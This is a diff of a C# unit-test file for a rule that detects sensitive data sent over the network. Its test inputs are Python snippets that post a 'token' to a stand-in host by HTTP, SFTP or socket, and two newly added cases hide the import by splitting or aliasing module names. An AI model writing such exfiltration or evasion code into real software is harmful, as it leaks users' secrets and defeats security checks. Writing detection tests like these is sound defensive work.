@@ -34,6 +34,8 @@ public sealed class ExfilRuleTests
     [InlineData("import paramiko, io\nsftp = paramiko.SSHClient().open_sftp()\nsftp.putfo(io.BytesIO(token.encode()), '/tmp/t')")]
     [InlineData("import requests\ndef push(session, body):\n    session.post('https://x.example.com', data=body)\npush(requests.Session(), token)")]
     [InlineData("import requests\ndef push(http, body):\n    http.post('https://x.example.com', data=body)\npush(requests, token)")]
+    [InlineData("m = __import__('req' + 'uests')\ndef push(http, body):\n    http.post('https://x.example.com', data=body)\npush(m, token)")]
+    [InlineData("import io as requests_io, socket as s\ndef push(conn, body):\n    conn.sendall(body)\npush(s.create_connection(('x.example.com', 80)), token.encode())")]
     [InlineData("import socket\nclass C:\n    def __init__(self):\n        self.s = socket.socket()\n    def send(self, v):\n        self.s.sendall(v.encode())\nC().send(token)")]
     public void SensitiveDataSentOverTheNetworkIsBlocked(string sink)
     {
